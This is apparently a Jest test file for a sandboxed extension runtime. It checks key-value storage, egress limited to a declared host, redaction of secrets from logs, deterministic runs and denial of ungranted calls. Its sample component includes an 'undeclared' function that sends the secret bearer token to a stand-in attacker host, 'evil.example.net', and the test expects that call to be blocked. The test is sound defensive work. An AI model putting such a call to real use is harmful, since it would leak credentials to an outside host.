import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { ManifestV2 } from '#contract/manifest/index.js'
import { buildComponent } from '#runtime/toolchain/build-component.js'
import { LocalStage, type Admitted } from './stage.js'
import { Surroundings } from '#sdk/test-kit/surroundings.schema.js'

const MANIFEST = ManifestV2.parse({
  ...{ manifest_version: 2, id: 'com.example.local', version: '1.0.0', type: 'workflow-step', name: 'Local' },
  ...{ description: 'Tried out.', compatibility: { platform: '>=0.1.0' }, billing: { model: 'free' } },
  permissions: ['kv:read', 'kv:write', 'log:write', 'http:fetch', 'config:read', 'secrets:read'],
  runtime: { kind: 'component', entry: 'component.wasm' },
  egress: [{ host: 'api.example.com', methods: ['GET'], secrets: ['TOKEN'] }],
  secrets: [{ name: 'TOKEN', title: 'Token' }],
  config: { version: 1, schema: { type: 'object' }, defaults: { limit: 1 } },
  api: { endpoints: [{ id: 'do', title: 'Do', method: 'GET', path: '/do/{what}' }] },
})

const SOURCE = `
import { get, set } from 'gatehouse:extension/kv@0.1.0'
import { write } from 'gatehouse:extension/log@0.1.0'
import { fetch } from 'gatehouse:extension/http@0.1.0'
import { all } from 'gatehouse:extension/config@0.1.0'
import { get as secret } from 'gatehouse:extension/secrets@0.1.0'
import { nowMs } from 'gatehouse:extension/clock@0.1.0'
import { bytes } from 'gatehouse:extension/random@0.1.0'
const encode = (text) => Uint8Array.from(text, (character) => character.codePointAt(0))
const decode = (data) => String.fromCharCode(...data)
const ask = (host) => fetch({ method: 'GET', url: 'https://' + host + '/v1', headers: [['authorization', 'Bearer {{secret:TOKEN}}']], body: new Uint8Array() })
const tried = (what) => { try { return what() } catch (error) { return error.payload.code } }
const work = {
  kv: () => { const before = get('count'); set('count', encode(String(Number(before ? decode(before) : 0) + 1))); return before ? decode(before) : 'none' },
  declared: () => decode(ask('api.example.com').body),
  undeclared: () => tried(() => ask('evil.example.net')),
  known: () => { const value = secret('TOKEN'); write('info', 'it is ' + value); return all() },
  fixed: () => nowMs() + ' ' + bytes(4).join(),
  refused: () => tried(() => String(get('count'))),
}
export function handle(request) { return { status: 200, headers: [], body: encode(work[request.params[0][1]]()) } }
`

let stage: LocalStage
let admitted: Admitted
beforeAll(async () => {
  stage = await LocalStage.open({ weakIsolation: true })
  const capabilities = ['kv', 'log', 'http', 'config', 'secrets']
  admitted = await stage.admit(MANIFEST, await buildComponent({ source: { js: SOURCE }, capabilities }))
}, 120_000)
afterAll(() => stage.close())

const run = async (what: string, surroundings: object = {}) => {
  const answered = await stage.call(
    admitted,
    { method: 'GET', target: `/do/${what}` },
    { surroundings: Surroundings.parse(surroundings) },
  )
  return { ...answered, text: Buffer.from(answered.result?.response?.body ?? []).toString() }
}

describe('an extension on its author’s machine', () => {
  it('stores what it stores, and each host call is decided by the shipped policy', async () => {
    const { text, calls, decision, result } = await run('kv', { kv: { count: '4' } })
    expect(text).toBe('4')
    expect(decision).toMatchObject({ outcome: 'allow', rules: ['call.allowed'] })
    expect(calls.map(({ name, decision: made }) => [name, made?.outcome])).toEqual([
      ['kv.get', 'allow'],
      ['kv.set', 'allow'],
    ])
    expect(result!.usage.fuel).toBeGreaterThan(0)
  })

  it('speaks to canned hosts only, with the secret in its place, and is refused the others', async () => {
    const surroundings = {
      secrets: { TOKEN: 'xyzzy' },
      http: [{ url: 'https://api.example.com/*', body: 'hello' }],
    }
    const { text, sent } = await run('declared', surroundings)
    expect(text).toBe('hello')
    expect(sent).toMatchObject([{ url: 'https://api.example.com/v1', headers: { authorization: 'Bearer xyzzy' } }])
    const refused = await run('undeclared', surroundings)
    expect(refused.text).toBe('capability.host_undeclared')
    expect(refused.sent).toEqual([])
    expect(refused.calls[0]!.decision!.reasons[0]!.remedy).not.toBe('')
  })

  it('reads settings and secrets, which are struck from its log', async () => {
    const { text, log } = await run('known', { config: { mode: 'a' }, secrets: { TOKEN: 'xyzzy' } })
    expect(JSON.parse(text)).toEqual({ limit: 1, mode: 'a' })
    expect(log.map(({ message }) => message)).toEqual(['it is [secret TOKEN]'])
  })

  it('goes the same way at the same moment with the same seed', async () => {
    const at = { now: '2026-01-31T09:30:00Z', seed: 'one' }
    const first = await run('fixed', at)
    expect(first.text).toMatch(/^1769851800000 /)
    expect((await run('fixed', at)).text).toBe(first.text)
    expect((await run('fixed', { ...at, seed: 'two' })).text).not.toBe(first.text)
  })

  it('is refused what was not granted, what the surroundings refuse, and calls that policy denies', async () => {
    expect((await run('refused', { granted: ['log:write'] })).text).toBe('capability.not_granted')
    expect((await run('refused', { refuse: { 'kv.get': 'kv.corrupt' } })).text).toBe('kv.corrupt')
    const suspended = await run('kv', { rung: 'suspend' })
    expect(suspended).toMatchObject({ result: null, decision: { outcome: 'deny' } })
  })
})
